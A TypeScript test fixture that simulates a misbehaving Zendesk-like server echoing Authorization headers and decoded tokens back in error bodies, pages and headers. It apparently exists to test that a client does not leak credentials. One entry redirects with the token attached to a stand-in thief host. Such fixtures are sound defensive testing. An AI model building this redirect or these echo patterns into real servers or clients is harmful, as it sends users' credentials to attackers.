import { ConnectionCut } from '../simulator';
import { NEIGHBOUR, THIEF } from './stage';

/** What a server tells that was told a secret, as far as it knows: the header as it came, and what stands in it. */
interface Known {
	header: string;
	bare: string;
}

function knownFrom(request: Request): Known {
	const header = request.headers.get('authorization') ?? 'no header';
	const [scheme, value = ''] = header.split(' ');
	const bare = /basic/i.test(scheme) ? Buffer.from(value, 'base64').toString('utf8') : value;
	// Of Basic: what stands behind `email/token:`.
	return { header, bare: bare.slice(bare.indexOf('/token:') + 1).replace(/^token:/, '') };
}

const json = (status: number, body: unknown, headers: Record<string, string> = {}) =>
	Response.json(body, { status, headers });
const html = (status: number, body: string) =>
	new Response(`<!doctype html><html><body>${MARK} ${body}</body></html>`, {
		status,
		headers: { 'Content-Type': 'text/html' },
	});
const redirect = (status: number, location: string) =>
	new Response(null, { status, headers: { Location: location } });

/** So that a test can tell that the words of an answer do come out. */
export const MARK = 'ECHO';

/** What a server says that repeats what it was told. */
type Says = (request: Request, known: Known) => Response;

/** Ways in which things go wrong; some repeat what they were sent, in every form of error that Zendesk has. */
export const ANSWERS: Record<string, { says: Says; isMarked?: boolean }> = {
	'401': { says: () => json(401, { error: `Couldn't authenticate you` }) },
	'401, repeating the header': {
		says: (_, { header, bare }) =>
			json(401, { error: header, error_description: bare, description: header }),
	},
	'403, repeating the header': {
		isMarked: true,
		says: (_, { header, bare }) =>
			json(403, { error: { title: bare, message: `${MARK} ${header}` } }),
	},
	'422, repeating everything': {
		isMarked: true,
		says: (_, { header, bare }) =>
			json(422, {
				error: 'RecordInvalid',
				description: bare,
				details: {
					base: [{ description: `${MARK} ${header}`, error: bare }],
					name: [{ description: bare }],
					email: [{ description: encodeURIComponent(bare) }],
					phone: [{ description: Buffer.from(bare).toString('base64') }],
					role: [{ description: JSON.stringify({ header }) }],
				},
			}),
	},
	'422, with the header as the code': {
		says: (_, { header }) => json(422, { error: header }),
	},
	'400, in a list': {
		isMarked: true,
		says: (_, { header, bare }) =>
			json(400, { errors: [{ code: bare, title: `${MARK} ${header}`, detail: bare }] }),
	},
	'404, repeating the token': {
		isMarked: true,
		says: (_, { bare }) => json(404, { error: 'RecordNotFound', description: `${MARK} ${bare}` }),
	},
	'422, with the token in the request ID': {
		says: (_, { bare }) =>
			json(422, { error: 'RecordInvalid', description: 'No' }, { 'X-Request-Id': bare }),
	},
	'500, a page with the headers': {
		isMarked: true,
		says: (_, { header }) => html(500, `<pre>Authorization: ${header}</pre>`),
	},
	'502, the token in plain text': {
		isMarked: true,
		says: (_, { bare }) => new Response(`${MARK} ${bare}`, { status: 502 }),
	},
	'200, a page with the headers': {
		isMarked: true,
		says: (_, { header }) => html(200, `Authorization: ${header}`),
	},
	'200, something else in JSON': {
		isMarked: true,
		says: (_, { header, bare }) => json(200, { said: `${MARK} ${header}`, authorization: bare }),
	},
	'a redirect with the token in it': {
		says: (_, { bare }) => redirect(307, `https://${THIEF}/?t=${encodeURIComponent(bare)}`),
	},
	'a redirect to another account': {
		says: (request) => redirect(302, request.url.replace(new URL(request.url).host, NEIGHBOUR)),
	},
	'a broken connection': {
		says: () => {
			throw new ConnectionCut();
		},
	},
};

export function answerWith(name: string): (request: Request) => Response {
	return (request) => ANSWERS[name].says(request, knownFrom(request));
}
